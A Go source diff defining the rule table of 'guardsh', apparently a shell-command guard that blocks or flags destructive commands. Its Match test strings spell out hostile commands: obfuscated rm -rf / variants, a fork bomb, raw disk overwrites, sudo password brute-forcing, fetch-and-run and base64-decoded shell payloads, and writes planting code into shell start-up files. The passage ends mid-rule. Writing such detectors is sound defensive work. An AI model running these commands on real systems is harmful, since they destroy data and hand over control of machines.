@@ -1,0 +1,771 @@
+package rules
+
+import (
+	"path"
+	"strings"
+
+	"github.com/guardsh/guardsh/parse"
+)
+
+// lookalike is reported instead of a rule that matched only the NFKC-folded
+// copy of the input.
+var lookalike = &Rule{
+	ID: "unicode-lookalike", Tier: Dangerous, NeverPermanent: true,
+	Title:   "Dangerous command spelled with look-alike characters",
+	Reason:  "The line uses fullwidth or compatibility characters that fold to a dangerous command; it is a spoof, or a paste that is not what it looks like.",
+	Match:   []string{"ｒｍ -ｒｆ /", "ｓｈｕｔｄｏｗｎ now"},
+	NoMatch: []string{"echo ｈｅｌｌｏ", "rm ｆｉｌｅ"},
+}
+
+// table is the rule table, hardline first. Read it top to bottom.
+var table = []*Rule{
+	// ── Hardline: never runs ──────────────────────────────────────────
+	{
+		ID: "rm-root", Tier: Hardline,
+		Title:   "Recursive delete of /",
+		Reason:  "Deleting the root directory destroys the whole system.",
+		Suggest: "name the directory you mean, such as ./build",
+		names:   []string{"rm"},
+		cmd: func(c *parse.Command) bool {
+			return rmRecursive(c) && anyOperand(c, parse.RootLike)
+		},
+		Match: []string{"rm -rf /", "rm -rf //", "rm -rf /.", "rm -rf /..", "rm -rf /*", "rm -r -f /", "rm --recursive --force /",
+			"rm / -rf", "rm -rf --no-preserve-root /", "sudo rm -rf /", "/bin/rm -rf /", "r\\m -rf /", "'rm' -rf /",
+			"\"r\"m -rf /", "$'\\x72m' -rf /", "a=rm; $a -rf /", "x=/; rm -rf $x", "rm${IFS}-rf${IFS}/", "$(echo rm) -rf /",
+			"bash -c 'rm -rf /'", "sudo bash -c \"rm -rf /\"", "eval 'rm -rf /'", "echo cm0gLXJmIC8= | base64 -d | sh",
+			"env -i rm -rf /", "nohup rm -rf / &", "timeout 5 rm -rf /", "xargs rm -rf / < /dev/null", "find . -exec rm -rf / \\;",
+			"python3 -c 'import os; os.system(\"rm -rf /\")'", "echo 'rm -rf /' | bash", "bash <<'EOF'\nrm -rf /\nEOF",
+			"sh <<< 'rm -rf /'", "ssh host 'rm -rf /'", "rm -Rf /*", "rm -fr /", "sudo -u root -- rm -rf /", "command rm -rf /",
+			"rm -rf \"/\"", "rm -rf {/,}", "watch rm -rf /", "ssh host rm -rf /", "$(printf %s rm) -rf /"},
+		NoMatch: []string{"rm -rf ./build", "echo rm -rf /", "git commit -m 'rm -rf /'", "rm -rf /tmp/x", "rm / ", "rm -f /",
+			"ls /", "grep -r 'rm -rf /' .", "cat <<EOF\nrm -rf /\nEOF", "rm -rf $dir/"},
+	},
+	{
+		ID: "rm-system", Tier: Hardline,
+		Title:   "Recursive delete of a system directory",
+		Reason:  "Deleting /etc, /usr, /var, /boot or another system directory leaves the machine unbootable.",
+		Suggest: "delete only the file or subdirectory you mean",
+		names:   []string{"rm"},
+		cmd: func(c *parse.Command) bool {
+			return rmRecursive(c) && anyOperand(c, parse.SystemDir)
+		},
+		Match:   []string{"rm -rf /etc", "rm -rf /usr/*", "rm -rf /var/", "sudo rm -r /boot", "rm -rf /home", "rm -rf /lib64", "rm -rf /usr/../etc"},
+		NoMatch: []string{"rm -rf /etc/nginx/sites-enabled/old", "rm -rf /var/tmp/build", "rm /etc/motd", "rm -rf ./etc"},
+	},
+	{
+		ID: "rm-home", Tier: Hardline,
+		Title:   "Recursive delete of the home directory",
+		Reason:  "Deleting your home directory destroys all your files and settings.",
+		Suggest: "name the directory inside your home you mean, such as ~/tmp/old",
+		names:   []string{"rm"},
+		cmd: func(c *parse.Command) bool {
+			return rmRecursive(c) && anyOperand(c, parse.HomeLike)
+		},
+		Match:   []string{"rm -rf ~", "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME", "rm -rf ${HOME}", "rm -rf \"$HOME\"", "rm -rf \"$HOME/\"", "rm -rf ~/.", "rm -fr $HOME/*"},
+		NoMatch: []string{"rm -rf ~/projects/old", "rm ~/notes.txt", "rm -rf \"$HOME/.cache/pip\"", "echo rm -rf ~"},
+	},
+	{
+		ID: "mkfs-device", Tier: Hardline,
+		Title:   "Make a filesystem on a disk",
+		Reason:  "Formatting a disk or partition erases everything on it.",
+		Suggest: "format an image file instead (mkfs.ext4 disk.img), or run it by hand outside guardsh",
+		names:   []string{"mkfs", "mke2fs", "wipefs", "mkswap", "mkfs.ext2", "mkfs.ext3", "mkfs.ext4", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mkfs.fat", "mkfs.ntfs", "mkfs.exfat", "mkfs.f2fs", "mkfs.minix", "mkfs.msdos", "mkdosfs", "mkntfs", "newfs"},
+		cmd: func(c *parse.Command) bool {
+			return anyOperand(c, parse.BlockDevice)
+		},
+		Match:   []string{"mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/nvme0n1p1", "sudo wipefs -a /dev/sdb", "mke2fs /dev/vdb", "mkfs.vfat /dev/mmcblk0p1"},
+		NoMatch: []string{"mkfs.ext4 disk.img", "man mkfs", "echo mkfs.ext4 /dev/sda"},
+	},
+	{
+		ID: "disk-overwrite", Tier: Hardline,
+		Title:   "Write to a raw disk",
+		Reason:  "Writing to a disk device overwrites its partition table and filesystems.",
+		Suggest: "write to an image file, or run it by hand outside guardsh",
+		cmd: func(c *parse.Command) bool {
+			for _, w := range writeTargets(c) {
+				if parse.BlockDevice(w.Value) {
+					return true
+				}
+			}
+			switch c.Name() {
+			case "shred", "blkdiscard", "sgdisk", "sfdisk", "badblocks":
+				if c.Name() == "badblocks" && !args(c).has("w") {
+					return false
+				}
+				if c.Name() == "sgdisk" && !args(c).has("Z", "o", "zap-all", "clear") {
+					return false
+				}
+				return anyOperand(c, parse.BlockDevice)
+			}
+			return false
+		},
+		Match:   []string{"dd if=/dev/zero of=/dev/sda", "dd if=x.iso of=/dev/sdb bs=4M", "cat image > /dev/sda", "echo x > /dev/nvme0n1", "sudo tee /dev/sda < img", "shred /dev/sda", "cp x.img /dev/mmcblk0", "> /dev/sda"},
+		NoMatch: []string{"dd if=/dev/zero of=disk.img bs=1M count=10", "cat /dev/sda | head -c 512 > mbr.bin", "echo hi > /dev/null", "ls > /dev/stderr", "echo 'dd of=/dev/sda'"},
+	},
+	{
+		ID: "fork-bomb", Tier: Hardline,
+		Title:  "Fork bomb",
+		Reason: "A function that starts copies of itself without end exhausts the process table and freezes the machine.",
+		cmd: func(c *parse.Command) bool {
+			return c.InFunc != "" && c.Name() == c.InFunc && (c.Piped || c.Background)
+		},
+		Match:   []string{":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f|f& }; f", "x() { x & x & }; x"},
+		NoMatch: []string{"f() { echo hi; }; f", "retry() { retry_once || sleep 1; }", "echo ':(){ :|:& };:'"},
+	},
+	{
+		ID: "kill-all", Tier: Hardline,
+		Title:   "Kill every process",
+		Reason:  "Signalling PID -1 kills every process you may signal, including your session.",
+		names:   []string{"kill"},
+		cmd:     killsAll,
+		Match:   []string{"kill -9 -1", "kill -1", "kill -- -1", "kill -KILL -1", "kill -s KILL -1", "sudo kill -9 -1"},
+		NoMatch: []string{"kill 1234", "kill -9 1234", "kill -1 1234", "kill %1"},
+	},
+	{
+		ID: "shutdown", Tier: Hardline,
+		Title:   "Shut down or reboot the machine",
+		Reason:  "Powering off or rebooting stops every session and service on the machine.",
+		Suggest: "run it by hand in a terminal outside guardsh when you really mean it",
+		names:   []string{"shutdown", "reboot", "halt", "poweroff", "init", "telinit", "systemctl", "loginctl"},
+		cmd:     shutsDown,
+		Match:   []string{"shutdown now", "shutdown -h now", "sudo reboot", "halt", "poweroff", "init 0", "init 6", "telinit 6", "systemctl poweroff", "systemctl reboot", "sudo systemctl --force reboot", "systemctl kexec", "systemctl halt"},
+		NoMatch: []string{"shutdown -c", "systemctl status", "init --version", "echo reboot", "man shutdown", "reboot --help"},
+	},
+	{
+		ID: "sudo-password-guess", Tier: Hardline,
+		Title:  "Password guessing with sudo -S",
+		Reason: "Feeding sudo -S passwords from a loop, a list or a file is a brute-force attack on the account.",
+		names:  []string{"sudo"},
+		cmd: func(c *parse.Command) bool {
+			if !args(c).has("S", "stdin") {
+				return false
+			}
+			if c.InLoop || viaHas(c, "xargs", "parallel") {
+				return true
+			}
+			for _, r := range c.Redirs {
+				if r.Op == "<" {
+					return true
+				}
+			}
+			return c.StdinFrom != nil && c.StdinFrom.Name() == "cat"
+		},
+		Match:   []string{"for p in $(cat words.txt); do echo $p | sudo -S true; done", "sudo -S true < passwords.txt", "cat passwords.txt | sudo -S id", "while read p; do echo \"$p\" | sudo -S -v; done < list"},
+		NoMatch: []string{"sudo true", "echo hi | sudo tee /tmp/x"},
+	},
+	{
+		ID: "chmod-root", Tier: Hardline,
+		Title:   "Recursive permission or owner change of /",
+		Reason:  "Changing modes or owners of every file from / down breaks sudo, ssh and the system.",
+		Suggest: "apply it to the directory you mean",
+		names:   []string{"chmod", "chown", "chgrp", "setfacl"},
+		cmd: func(c *parse.Command) bool {
+			return args(c).has("R", "recursive") && anyOperand(c, parse.RootLike)
+		},
+		Match:   []string{"chmod -R 777 /", "sudo chown -R user /", "chmod -R 755 /*", "chgrp -R staff /", "chmod --recursive 700 /"},
+		NoMatch: []string{"chmod -R 755 ./dist", "chmod 755 /usr/local/bin/tool", "chown -R me ./repo"},
+	},
+	{
+		ID: "find-delete-root", Tier: Hardline,
+		Title:  "find deleting from /",
+		Reason: "find / -delete removes every file on the system it can reach.",
+		names:  []string{"find"},
+		cmd: func(c *parse.Command) bool {
+			return findDeletes(c) && findRootIn(c, func(p string) bool { return parse.RootLike(p) || parse.SystemDir(p) || parse.HomeLike(p) })
+		},
+		Match:   []string{"find / -delete", "find / -name '*' -delete", "sudo find /etc -delete", "find ~ -delete", "find / -exec rm -rf {} +"},
+		NoMatch: []string{"find . -name '*.pyc' -delete", "find / -name passwd", "find /tmp/x -delete"},
+	},
+	{
+		ID: "hardline-unparsed", Tier: Hardline,
+		Title:   "Hardline shape in text guardsh could not parse",
+		Reason:  "The input could not be fully analysed, and its raw text has the shape of a command that must never run.",
+		input:   issueRule(parse.IssueHardlineRaw),
+		Match:   []string{"rm -rf / )))", "echo ok; ((( shutdown now"},
+		NoMatch: []string{"echo 'unclosed", "ls ((("},
+	},
+
+	// ── Dangerous: a human approves ──────────────────────────────────
+	{
+		ID: "rm-recursive", Tier: Dangerous,
+		Title:   "Recursive delete",
+		Reason:  "rm -r deletes a whole tree with no way back.",
+		Suggest: "move it to the trash (trash-put, gio trash), or list it first with ls",
+		names:   []string{"rm"},
+		cmd: func(c *parse.Command) bool {
+			if !rmRecursive(c) {
+				return false
+			}
+			ops := args(c).operands
+			if len(ops) == 0 {
+				// xargs and find -exec supply the operands.
+				return len(c.Via) > 0
+			}
+			for _, w := range ops {
+				if !underTemp(w.Value) {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"rm -rf build", "rm -r x", "rm -R dir", "rm --recursive d", "rm build/ -rf", "rm -r -f node_modules", "rm -rf \"$dir\"", "rm -rf /tmp/../etc/x", "rm -rf /tmp/*", "xargs rm -rf"},
+		NoMatch: []string{"rm -rf /tmp/build", "rm -rf \"$TMPDIR/x\"", "rm file.txt", "rm -f a b", "d=$(mktemp -d); rm -rf \"$d\"", "rm -rf /var/tmp/cache-1"},
+	},
+	{
+		ID: "rm-absolute", Tier: Dangerous,
+		Title:   "Delete by absolute path",
+		Reason:  "Deleting files outside the project by absolute path can remove system or user data.",
+		Suggest: "check the path with ls first, or move it to the trash",
+		names:   []string{"rm", "unlink", "rmdir", "shred"},
+		cmd: func(c *parse.Command) bool {
+			if c.Name() == "shred" && !args(c).has("u", "remove") {
+				return false
+			}
+			for _, w := range args(c).operands {
+				if absolute(w.Value) && !underTemp(w.Value) && !parse.BlockDevice(w.Value) {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"rm /etc/passwd", "rm -f /usr/local/bin/tool", "unlink /var/lib/x", "rm ~/.bashrc", "shred -u /home/me/file"},
+		NoMatch: []string{"rm ./x", "rm /tmp/x", "rm file", "shred file"},
+	},
+	{
+		ID: "xargs-rm", Tier: Dangerous,
+		Title:   "Delete a list of files from input",
+		Reason:  "xargs rm deletes whatever names arrive on its input, which you have not seen.",
+		Suggest: "run the producer alone first and read the list",
+		names:   []string{"rm", "unlink", "shred"},
+		cmd:     func(c *parse.Command) bool { return viaHas(c, "xargs", "parallel") },
+		Match:   []string{"find . -name '*.log' | xargs rm", "ls | xargs -0 rm -f", "git ls-files -d | xargs rm"},
+		NoMatch: []string{"find . | xargs ls", "rm x"},
+	},
+	{
+		ID: "find-delete", Tier: Dangerous,
+		Title:   "find deletes what it matches",
+		Reason:  "find -delete and find -exec rm remove every match, including ones you did not expect.",
+		Suggest: "run the same find with -print first",
+		names:   []string{"find", "rm"},
+		cmd: func(c *parse.Command) bool {
+			if c.Name() == "rm" {
+				return viaHas(c, "find -exec", "find -execdir", "find -ok", "find -okdir")
+			}
+			return findDeletes(c) && !findRootIn(c, underTemp)
+		},
+		Match:   []string{"find . -name '*.tmp' -delete", "find . -type f -exec rm {} \\;", "find build -execdir rm -f {} +"},
+		NoMatch: []string{"find . -name '*.go'", "find /tmp/x -delete", "find . -exec grep x {} +"},
+	},
+	{
+		ID: "chmod-world-writable", Tier: Dangerous,
+		Title:   "World-writable permissions",
+		Reason:  "Mode 777, 666, o+w or a+w lets every user and process on the machine change the files.",
+		Suggest: "use 755 for directories and programs, 644 for files",
+		names:   []string{"chmod"},
+		cmd: func(c *parse.Command) bool {
+			m := chmodMode(c)
+			return m != "" && worldWritable(m)
+		},
+		Match:   []string{"chmod 777 file", "chmod -R 777 .", "chmod 666 x", "chmod o+w x", "chmod a+w x", "chmod ugo+rwx x", "chmod 0777 x", "chmod 1777 /srv/share", "chmod a=rwx f"},
+		NoMatch: []string{"chmod 755 x", "chmod +x script.sh", "chmod 644 f", "chmod u+w f", "chmod go-w f", "chmod 750 d"},
+	},
+	{
+		ID: "chmod-setuid", Tier: Dangerous,
+		Title:  "setuid or setgid bit",
+		Reason: "A setuid or setgid program runs with its owner's rights; a writable or careless one is a root shell for anyone.",
+		names:  []string{"chmod"},
+		cmd: func(c *parse.Command) bool {
+			m := chmodMode(c)
+			return m != "" && setuid(m)
+		},
+		Match:   []string{"chmod u+s /usr/local/bin/x", "chmod 4755 prog", "chmod +s prog", "chmod g+s dir", "chmod 2755 d", "chmod 6755 p"},
+		NoMatch: []string{"chmod 755 prog", "chmod u+x prog", "chmod 0755 p"},
+	},
+	{
+		ID: "chmod-recursive-system", Tier: Dangerous,
+		Title:   "Recursive permission or owner change outside the project",
+		Reason:  "Changing modes or owners recursively under a system or home path breaks programs that check them (sudo, ssh).",
+		Suggest: "apply it to the directory you mean, relative to the project",
+		names:   []string{"chmod", "chown", "chgrp"},
+		cmd: func(c *parse.Command) bool {
+			if !args(c).has("R", "recursive") {
+				return false
+			}
+			for _, w := range args(c).operands[1:] {
+				if (absolute(w.Value) || !w.Static) && !underTemp(w.Value) && !parse.RootLike(w.Value) {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"chmod -R 700 /etc", "sudo chown -R me /usr/local", "chmod -R go-rwx ~", "chgrp -R staff /var/www"},
+		NoMatch: []string{"chmod -R u+w ./src", "chown -R me:me build", "chmod 755 /usr/local/bin/x"},
+	},
+	{
+		ID: "chown-root", Tier: Dangerous,
+		Title:  "Recursive chown to root",
+		Reason: "Giving a whole tree to root locks you out of your own files.",
+		names:  []string{"chown"},
+		cmd: func(c *parse.Command) bool {
+			a := args(c)
+			if !a.has("R", "recursive") || len(a.operands) == 0 {
+				return false
+			}
+			owner := a.operands[0].Value
+			return owner == "root" || strings.HasPrefix(owner, "root:") || strings.HasPrefix(owner, "0:") || owner == "0"
+		},
+		Match:   []string{"chown -R root .", "sudo chown -R root:root project", "chown -R 0:0 dir"},
+		NoMatch: []string{"chown -R me .", "chown root file"},
+	},
+	{
+		ID: "dd-absolute", Tier: Dangerous,
+		Title:   "dd to an absolute path, or reading a whole disk",
+		Reason:  "dd overwrites its output without asking; of= an absolute path can hit system files, and if= a raw disk copies everything on it.",
+		Suggest: "write to a file in the project, and check of= twice",
+		names:   []string{"dd"},
+		cmd: func(c *parse.Command) bool {
+			for _, w := range c.Args[1:] {
+				if v, ok := strings.CutPrefix(w.Value, "of="); ok && absolute(v) && !underTemp(v) && !quietDevice(v) && !parse.BlockDevice(v) {
+					return true
+				}
+				if v, ok := strings.CutPrefix(w.Value, "if="); ok && parse.BlockDevice(v) {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"dd if=x of=/usr/lib/libc.so.6", "dd if=/dev/sda of=disk.img", "sudo dd if=/dev/nvme0n1 | gzip > backup.gz", "dd if=/dev/zero of=/boot/efi/x"},
+		NoMatch: []string{"dd if=/dev/zero of=file.img bs=1M count=1", "dd if=/dev/urandom of=/tmp/rand bs=1k count=1", "dd if=x of=/dev/null"},
+	},
+	{
+		ID: "sql-destructive", Tier: Dangerous,
+		Title:   "Destructive SQL",
+		Reason:  "DROP, TRUNCATE and DELETE without WHERE remove data that only a backup brings back.",
+		Suggest: "run it inside a transaction (BEGIN; …; ROLLBACK) first, and check you have a backup",
+		names:   []string{"psql", "mysql", "mariadb", "sqlite3", "sqlcmd", "clickhouse-client", "clickhouse", "cockroach", "duckdb", "pgcli", "mycli", "litecli", "usql", "snowsql", "bq", "trino", "presto", "cqlsh"},
+		cmd: func(c *parse.Command) bool {
+			for _, s := range sqlTexts(c) {
+				if sqlDestructive(s) {
+					return true
+				}
+			}
+			return false
+		},
+		Match: []string{"psql -c 'DROP TABLE users'", "mysql -e 'truncate table t'", "sqlite3 app.db 'DELETE FROM users'", "psql <<EOF\nDROP DATABASE prod;\nEOF",
+			"echo 'drop schema public cascade' | psql", "mysql --execute='DROP DATABASE x'", "sqlcmd -Q 'DROP TABLE t'", "clickhouse-client --query 'TRUNCATE TABLE t'",
+			"psql --command='delete from orders;'", "cockroach sql -e 'DROP TABLE t'", "psql -c \"DELETE FROM t WHERE 1=1\""},
+		NoMatch: []string{"grep -r 'DROP TABLE' .", "psql -c 'select 1'", "psql -c \"DELETE FROM t WHERE id = 3\"", "echo 'DROP TABLE x'", "git commit -m 'DROP TABLE cleanup'", "psql < dump.sql", "mysql -e 'show tables'"},
+	},
+	{
+		ID: "system-config-write", Tier: Dangerous,
+		Title:   "Write to system configuration",
+		Reason:  "Changing files under /etc (or /private/etc, /boot, systemd units) changes how the whole machine boots, logs in and resolves names.",
+		Suggest: "write a drop-in file and review it, or edit it by hand with sudoedit",
+		cmd: func(c *parse.Command) bool {
+			for _, w := range writeTargets(c) {
+				if systemConfig(w.Value) {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"echo 'nameserver 1.1.1.1' > /etc/resolv.conf", "echo x | sudo tee -a /etc/hosts", "sudo cp sshd_config /etc/ssh/sshd_config", "sed -i 's/a/b/' /etc/fstab", "sudo mv x /etc/sudoers.d/x", "perl -pi -e 's/a/b/' /etc/hosts", "install -m 644 unit /etc/systemd/system/x.service", "cat x >> /private/etc/hosts"},
+		NoMatch: []string{"cat /etc/hosts", "grep x /etc/passwd", "cp /etc/hosts ./hosts.bak", "sed 's/a/b/' /etc/hosts", "diff /etc/hosts x"},
+	},
+	{
+		ID: "credential-file-write", Tier: Dangerous,
+		Title:   "Write to a credential or shell start-up file",
+		Reason:  "Changing ~/.ssh, shell rc files, ~/.netrc, cloud credentials or .env files can lock you out, leak secrets, or plant code that runs in every new shell.",
+		Suggest: "edit the file by hand and review the change",
+		cmd: func(c *parse.Command) bool {
+			for _, w := range writeTargets(c) {
+				if credentialFile(w.Value) {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"echo 'alias ls=rm' >> ~/.bashrc", "cat key.pub >> ~/.ssh/authorized_keys", "echo token > ~/.netrc", "cp creds ~/.aws/credentials", "echo SECRET=1 > .env", "sed -i 's/x/y/' ~/.zshrc", "tee ~/.npmrc < x", "echo x >> $HOME/.profile"},
+		NoMatch: []string{"cat ~/.bashrc", "cp .env.example .env.example.bak", "echo x > notes.txt", "grep x ~/.ssh/config", "source ~/.bashrc"},
+	},
+	{
+		ID: "service-stop", Tier: Dangerous,
+		Title:   "Stop or disable a system service",
+		Reason:  "Stopping, restarting, disabling or masking a service takes down what depends on it, possibly your own connection.",
+		Suggest: "check systemctl status first",
+		names:   []string{"systemctl", "service"},
+		cmd: func(c *parse.Command) bool {
+			if c.Name() == "service" {
+				ops := args(c).operands
+				return len(ops) >= 2 && (ops[1].Value == "stop" || ops[1].Value == "restart")
+			}
+			verb, _ := sub(c, "-H", "--host", "-M", "--machine", "-p", "--property", "-t", "--type", "-s", "--signal")
+			switch verb {
+			case "stop", "restart", "disable", "mask", "kill", "isolate", "try-restart", "reload-or-restart":
+				return true
+			}
+			return false
+		},
+		Match:   []string{"systemctl stop nginx", "sudo systemctl restart sshd", "systemctl disable --now docker", "systemctl mask x", "service ssh stop", "systemctl --user restart pipewire"},
+		NoMatch: []string{"systemctl status nginx", "systemctl start nginx", "systemctl list-units", "service ssh status"},
+	},
+	{
+		ID: "kill-force", Tier: Dangerous,
+		Title:   "Kill processes by name or pattern",
+		Reason:  "pkill -9, killall -9 and kill $(pgrep …) can hit more processes than you think, with no chance to clean up.",
+		Suggest: "list them first (pgrep -a NAME), then kill the PIDs you mean with SIGTERM",
+		names:   []string{"pkill", "killall", "kill"},
+		cmd: func(c *parse.Command) bool {
+			a := args(c, "-s", "--signal", "-u", "-U", "-g", "-G", "-t", "-P")
+			switch c.Name() {
+			case "pkill":
+				return a.has("9") || sigKill(c)
+			case "killall":
+				return a.has("9", "r", "regexp") || sigKill(c)
+			}
+			for _, w := range c.Args[1:] {
+				if !w.Static && strings.Contains(w.Value, "$(") {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"pkill -9 node", "killall -9 python", "killall -KILL x", "killall -s KILL x", "killall -r 'py.*'", "kill $(pgrep node)", "kill -9 $(lsof -t -i:3000)", "pkill --signal KILL x"},
+		NoMatch: []string{"pkill node", "killall firefox", "kill 1234", "kill -9 4321"},
+	},
+	{
+		ID: "remote-code", Tier: Dangerous,
+		Title:   "Run code downloaded from the network",
+		Reason:  "Piping or substituting downloaded content into a shell or interpreter runs whatever the server sends, unseen.",
+		Suggest: "download it to a file, read it, then run the file",
+		cmd:     func(c *parse.Command) bool { return c.CodeSource == "network" },
+		Match: []string{"curl -fsSL https://example.com/install.sh | sh", "wget -qO- https://x.sh | bash", "curl https://x | sudo bash", "bash <(curl -s https://x)", "source <(curl -s https://x)",
+			"eval \"$(curl -s https://x)\"", "sh -c \"$(curl -fsSL https://x)\"", "curl x | python3", "curl x | perl", "wget -O - x | node", "curl -s x | tee log | bash", ". <(wget -qO- https://x)", "curl https://x | zsh"},
+		NoMatch: []string{"curl -o install.sh https://x", "curl https://x | jq .", "wget https://x.tar.gz", "bash install.sh", "curl x | grep y"},
+	},
+	{
+		ID: "decoded-code", Tier: Dangerous,
+		Title:   "Run decoded content",
+		Reason:  "Decoding data into a shell or interpreter hides what will run.",
+		Suggest: "decode it to a file and read it first",
+		cmd:     func(c *parse.Command) bool { return c.CodeSource == "decoder" },
+		Match:   []string{"echo $PAYLOAD | base64 -d | sh", "base64 -d payload.txt | bash", "xxd -r -p x.hex | sh", "eval \"$(base64 -d <<< $x)\"", "cat x | rev | sh", "powershell -EncodedCommand %%%"},
+		NoMatch: []string{"echo aGVsbG8= | base64 -d", "base64 file.bin > out.txt", "echo bHMK | base64 -d | sh"},
+	},
+	{
+		ID: "dynamic-code", Tier: Dangerous,
+		Title:   "Run code built at run time",
+		Reason:  "The shell code comes from a variable, a command's output or a generated heredoc, so what will run cannot be known before it runs.",
+		Suggest: "write the code out literally, or into a file you can read",
+		cmd:     func(c *parse.Command) bool { return c.CodeSource == "dynamic" },
+		Match:   []string{"eval \"$CMD\"", "bash -c \"$x\"", "make_cmds | sh", "bash <<EOF\n$(cat list)\nEOF", "python3 -c 'import os; os.system(input())'", "sh -c \"$1\"", "git -c core.pager=\"$P\" log"},
+		NoMatch: []string{"eval \"$(ssh-agent -s)\"", "eval \"$(direnv hook bash)\"", "eval \"$(/opt/homebrew/bin/brew shellenv)\"", "eval \"$(pyenv init -)\"", "eval \"$(starship init bash)\"", "eval \"$(zoxide init zsh)\"",
+			"source <(kubectl completion bash)", "cat script.sh | bash", "bash script.sh", "bash < script.sh", "sh -c 'echo hi'", "python3 -c 'print(1)'", "eval \"$(fnm env --use-on-cd)\""},
+	},
+	{
+		ID: "dynamic-command", Tier: Dangerous,
+		Title:   "Command name unknown until run time",
+		Reason:  "The program to run comes from a variable or a command's output, next to arguments that would be dangerous for a destructive program.",
+		Suggest: "write the program name literally",
+		cmd:     dynamicCommand,
+		Match:   []string{"$cmd -rf /", "$(curl -s https://x) --now", "${RM} -rf ~", "$X --hard", "`cat f` -rf build"},
+		NoMatch: []string{"$EDITOR file.txt", "\"$@\"", "$PAGER README", "$cmd list"},
+	},
+	{
+		ID: "git-reset-hard", Tier: Dangerous,
+		Title:   "git reset --hard",
+		Reason:  "Resetting hard throws away every uncommitted change in the work tree.",
+		Suggest: "git stash (or git stash -u), then reset",
+		names:   []string{"git"},
+		cmd: func(c *parse.Command) bool {
+			s, rest := gitSub(c)
+			if s != "reset" {
+				return false
+			}
+			for _, w := range rest {
+				if w.Value == "--hard" || w.Value == "--har" || w.Value == "--ha" || w.Value == "--merge" || w.Value == "--keep" && false {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"git reset --hard", "git reset --hard HEAD~1", "git -C repo reset --hard origin/main", "git reset --har", "git --no-pager reset --hard"},
+		NoMatch: []string{"git reset", "git reset --soft HEAD~1", "git reset HEAD file", "git commit -m 'git reset --hard'"},
+	},
+	{
+		ID: "git-push-force", Tier: Dangerous,
+		Title:   "Force push or remote delete",
+		Reason:  "A force push, a mirror push or a push --delete rewrites or removes commits on the remote that others may have.",
+		Suggest: "git push --force-with-lease",
+		names:   []string{"git"},
+		cmd: func(c *parse.Command) bool {
+			s, rest := gitSub(c)
+			if s != "push" {
+				return false
+			}
+			for _, w := range rest {
+				v := w.Value
+				if v == "--force" || v == "--mirror" || v == "--delete" || v == "--prune" ||
+					len(v) > 1 && v[0] == '-' && v[1] != '-' && strings.ContainsAny(v[1:], "fd") ||
+					strings.HasPrefix(v, "+") || strings.HasPrefix(v, ":") && len(v) > 1 {
+					return true
+				}
+			}
+			return false
+		},
+		Match:   []string{"git push --force", "git push -f origin main", "git push origin +main", "git push --mirror", "git push origin --delete feature", "git push origin :feature", "git push -uf origin x"},
+		NoMatch: []string{"git push", "git push --force-with-lease", "git push -u origin main", "git push --tags"},
+	},
+	{
+		ID: "git-discard", Tier: Dangerous,
+		Title:   "Discard work in git",
+		Reason:  "This deletes untracked files, unmerged branches, stashes or uncommitted changes that git cannot bring back.",
+		Suggest: "look first: git clean -n, git stash list, git branch -d",
+		names:   []string{"git"},
+		cmd:     gitDiscards,
+		Match: []string{"git clean -f", "git clean -fdx", "git clean --force -d", "git branch -D feature", "git branch --delete --force x", "git checkout -- .", "git checkout .", "git restore .",
+			"git stash clear", "git reflog expire --expire=now --all", "git filter-branch --tree-filter x HEAD", "git restore --worktree --staged .", "git checkout -f", "git stash drop"},
+		NoMatch: []string{"git clean -n", "git clean --dry-run", "git checkout -b x", "git checkout main", "git restore --staged .", "git branch -d merged", "git stash", "git stash list", "git restore --staged file"},
+	},
+	{
+		ID: "chmod-x-run", Tier: Dangerous,
+		Title:   "Make a file executable and run it",
+		Reason:  "Marking a file executable and running it at once runs code you may not have read, often just downloaded.",
+		Suggest: "read the file first, then run it in a separate step",
+		input:   chmodThenRun,
+		Match:   []string{"chmod +x install.sh && ./install.sh", "curl -o x.sh https://x; chmod +x x.sh; ./x.sh", "chmod 755 run; ./run"},
+		NoMatch: []string{"chmod +x script.sh", "./script.sh", "chmod +x a.sh && ./b.sh"},
+	},
+	{
+		ID: "sudo-shell", Tier: Dangerous,
+		Title:   "Root shell or unattended sudo",
+		Reason:  "sudo -s, -i, su and a bare root shell hand over everything that follows; -A and -S take a password from a program or a pipe.",
+		Suggest: "run the single command you need with sudo",
+		names:   []string{"sudo", "su", "doas"},
+		cmd: func(c *parse.Command) bool {
+			a := args(c, "-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "--user", "--group")
+			switch c.Name() {
+			case "sudo":
+				if a.has("s", "i", "A", "S", "shell", "login", "askpass", "stdin") {
+					return true
+				}
+				op := ""
+				if len(a.operands) > 0 {
+					op = path.Base(a.operands[0].Value)
+				}
+				return op == "su" || shellsNoArgs(a)
+			case "doas":
+				return a.has("s") || shellsNoArgs(a)
+			case "su":
+				return !a.has("c", "command")
+			}
+			return false
+		},
+		Match:   []string{"sudo -s", "sudo -i", "sudo su", "sudo su -", "sudo -A apt update", "echo pw | sudo -S apt update", "sudo bash", "su", "su - root", "doas -s"},
+		NoMatch: []string{"sudo apt update", "sudo -u postgres psql", "su -c 'id' nobody", "sudo bash script.sh"},
+	},
+	{
+		ID: "container-stop", Tier: Dangerous,
+		Title:   "Stop or remove containers and their data",
+		Reason:  "Stopping, killing or pruning containers and volumes interrupts services and can delete their data.",
+		Suggest: "list first (docker ps, docker volume ls)",
+		names:   []string{"docker", "podman", "docker-compose", "nerdctl"},
+		cmd:     containerStops,
+		Match:   []string{"docker stop web", "docker kill $(docker ps -q)", "docker restart db", "docker compose down", "docker compose down -v", "docker-compose stop", "docker system prune -a", "docker volume rm data", "docker volume prune", "podman rm -f x", "docker rm -f web"},
+		NoMatch: []string{"docker ps", "docker compose up -d", "docker logs web", "docker build .", "docker run --rm alpine echo hi"},
+	},
+	{
+		ID: "windows-destructive", Tier: Dangerous,
+		Title:   "Destructive Windows command",
